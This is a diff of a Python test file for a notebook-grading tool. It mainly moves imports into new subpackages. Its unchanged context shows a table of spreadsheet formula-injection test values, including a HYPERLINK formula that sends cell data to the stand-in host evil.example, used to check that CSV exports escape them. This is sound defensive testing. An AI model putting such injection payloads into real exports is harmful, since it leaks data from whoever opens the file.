@@ -33,13 +33,13 @@ import nbformat
 import pytest
 
 from classroom import released_course
-from grader import course as nbs
-from grader.assembly import build, release
-from grader.batch import autograde
-from grader.collect import collect
-from grader.export import export_csv, spreadsheet_cell
-from grader.feedback import feedback
-from grader.zips import MAX_MEMBERS, ZipLimits
+from grader.authoring.assembly import build, release
+from grader.engine import course as nbs
+from grader.intake.collect import collect
+from grader.intake.zips import MAX_MEMBERS, ZipLimits
+from grader.results.export import export_csv, spreadsheet_cell
+from grader.results.feedback import feedback
+from grader.running.batch import autograde
 
 FIXTURE = Path(__file__).parent / "fixtures" / "grader" / "course" / "01_fixture.ipynb"
 A = "01_fixture"
@@ -433,7 +433,7 @@ def test_spreadsheet_cells_follow_owasp(value, cell):
 # Ids (and names, e-mails) that only become formulas once a spreadsheet splits the line on another
 # separator than the comma: ``;`` (many European locales), tab, ``|``. collect refuses control
 # characters in ids, but the gradebook also takes students from nbgrader's own commands.
-SPLIT_ATTACKS = {  # student id -> its CSV cell, by the rule of grader/export.py's docstring
+SPLIT_ATTACKS = {  # student id -> its CSV cell, by the rule of grader/results/export.py's docstring
     "eve;=1+1": "eve;'=1+1",
     '=HYPERLINK("http://evil.example/?"&A1;"x")': '\'=HYPERLINK("http://evil.example/?"&A1;"x")',
     "\t=1": "'\t'=1",
@@ -540,7 +540,7 @@ def test_feedback_is_sanitized_even_with_an_older_course_config(graded, tmp_path
     assert "c.GenerateFeedback.preprocessors = feedback_preprocessors()" in text
     config.write_text(text.replace(
         "c.GenerateFeedback.preprocessors = feedback_preprocessors()",
-        "from grader.feedback import HideHiddenTests\n"
+        "from grader.results.feedback import HideHiddenTests\n"
         "from nbgrader.preprocessors import GetGrades\n"
         "from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor\n"
         "c.GenerateFeedback.preprocessors = [HideHiddenTests, GetGrades, CSSHTMLHeaderPreprocessor]"),
